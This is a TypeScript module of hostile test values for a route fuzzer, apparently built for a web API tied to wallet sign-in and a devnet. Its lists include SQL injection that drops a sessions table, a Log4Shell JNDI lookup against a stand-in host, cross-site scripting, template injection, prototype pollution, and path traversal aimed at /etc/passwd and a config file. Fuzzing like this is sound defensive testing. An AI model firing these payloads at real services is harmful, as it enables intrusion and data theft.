/** The hostile values the route fuzzer draws from (raw: the generator percent-encodes where a client must). */

/** Query and path values that are wrong for every field: empty, encodings, wrong types, huge, injections, traversal, unicode. */
export const BAD_VALUES: readonly string[] = [
  '',
  ' ',
  '%00',
  '%',
  '%ZZ',
  '%E0%A4%A',
  '%ED%A0%80', // a lone UTF-16 surrogate, UTF-8 encoded
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '-1',
  '-0',
  '0',
  '1.5',
  '1e18',
  '1e309',
  'NaN',
  'Infinity',
  '0x',
  `0x${'f'.repeat(64)}`,
  '9'.repeat(80),
  '9'.repeat(400),
  'a'.repeat(5_000),
  '<script>alert(1)</script>',
  "' or 1=1 --",
  "'; drop table siwx_sessions; --",
  '${jndi:ldap://evil.test/x}',
  '{{7*7}}',
  '__proto__',
  'constructor',
]

/** Path traversal in every spelling a router or file server might decode. */
export const TRAVERSALS: readonly string[] = [
  '../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '%252e%252e%252fetc%252fpasswd',
  '....//....//etc/passwd',
  '..\\..\\kit-api.config.json',
  '..%5C..%5Ckit-api.config.json',
  '%2e%2e/%2e%2e/kit-api.config.json',
  '/etc/passwd',
  'C:\\Windows\\win.ini',
  '..%00.svg',
]

/** Unicode that breaks naive code: right-to-left override, zero-width, emoji, look-alikes, fullwidth digits, NUL, combining marks. */
export const UNICODE: readonly string[] = [
  'é',
  '😀',
  '\u202e',
  '\u200b',
  '\ufeff',
  'ｅｉｐ１５５：１',
  '０ｘ１２３４',
  'аlice', // Cyrillic a
  '\u0000',
  'a\u0301\u0301\u0301',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  '中文名字',
  '\u0007\n\t',
]

/** Bodies that are not JSON (or not what JSON.parse likes). */
export const INVALID_JSON: readonly string[] = [
  '{',
  '}',
  '{"a":',
  '[1,2',
  'nul',
  "{'a':1}",
  '{"a":1,}',
  '\ufeff{}',
  '{"a":NaN}',
  '{"a":Infinity}',
  'x',
  '<xml/>',
  'projectId=fuzz&amount=1',
  '[',
  '['.repeat(5_000),
  `${'{"a":'.repeat(2_000)}1${'}'.repeat(2_000)}`,
]

/** JSON values of the wrong type for any field. */
export const WRONG_TYPES: readonly unknown[] = [
  1,
  -1,
  1.5,
  1e308,
  0,
  null,
  true,
  false,
  [],
  {},
  '',
  'x'.repeat(10_000),
  [1, 2, 3],
  { $gt: '' },
  { __proto__: { admin: true } },
  '\ud800',
  'a\u0000b',
]

/** Methods a route does not answer. */
export const METHODS: readonly string[] = ['GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'HEAD', 'OPTIONS', 'TRACE', 'PROPFIND']

/** Body sizes above every route's limit (the analytics sink takes 16 KiB, the convert routes 8 KiB). */
export const OVERSIZES: readonly number[] = [17_000, 70_000, 300_000, 1_100_000]

/**
 * Addresses that are well-formed but odd: zero, precompiles, a code-less address, the native
 * placeholder, wrong EIP-55 checksums, all upper or lower case; the generator adds the devnet's
 * NFT, router, factory and WETH.
 */
export function oddAddresses(account: string): string[] {
  const flip = (address: string, index: number): string => {
    const chars = [...address]
    for (let i = index; i < chars.length; i++) {
      const char = chars[i]!
      if (/[a-f]/.test(char)) {
        chars[i] = char.toUpperCase()
        break
      }
      if (/[A-F]/.test(char)) {
        chars[i] = char.toLowerCase()
        break
      }
    }
    return chars.join('')
  }
  return [
    `0x${'0'.repeat(40)}`,
    `0x${'0'.repeat(39)}1`,
    `0x${'0'.repeat(39)}2`,
    `0x${'0'.repeat(39)}9`,
    `0x${'0'.repeat(38)}0a`,
    `0x${'0'.repeat(37)}100`,
    '0x00000000000000000000000000000000c0dec0de',
    '0xEeeeeEeeeEeEeeEeEeEeeEEEeeeeEeeeeeeeEEeE',
    `0x${'f'.repeat(40)}`,
    flip(account, 2),
    flip(account, 20),
    account.toLowerCase(),
    `0x${account.slice(2).toUpperCase()}`,
    `0X${account.slice(2)}`,
    account.slice(2),
  ]
}
